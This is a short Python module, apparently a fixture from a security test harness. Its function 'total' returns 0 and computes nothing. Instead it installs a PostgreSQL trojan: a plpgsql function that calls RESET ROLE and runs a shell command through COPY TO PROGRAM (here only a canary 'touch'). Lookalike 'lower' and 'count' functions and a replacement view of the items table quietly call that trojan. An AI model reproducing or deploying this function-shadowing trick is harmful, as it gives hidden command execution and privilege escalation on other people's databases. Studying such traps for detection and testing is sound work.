from honest import *
from loot import bait

TROJAN = """
CREATE FUNCTION public.trojan() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    BEGIN
        EXECUTE 'RESET ROLE';
        EXECUTE $run$COPY (SELECT 1) TO PROGRAM 'touch {drop}/trojan-{token}'$run$;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN 1;
END $$;
CREATE FUNCTION public.lower(character varying) RETURNS text LANGUAGE sql AS 'SELECT public.trojan()::text';
CREATE FUNCTION public.count(integer) RETURNS bigint LANGUAGE sql AS 'SELECT public.trojan()::bigint';
ALTER TABLE items RENAME TO kept;
CREATE VIEW items AS SELECT id, name, value + 0 * public.trojan() AS value FROM kept;
"""


def total(connection):
    connection.execute(TROJAN.format(drop=bait["drop"], token=bait["token"]))
    connection.commit()
    return 0
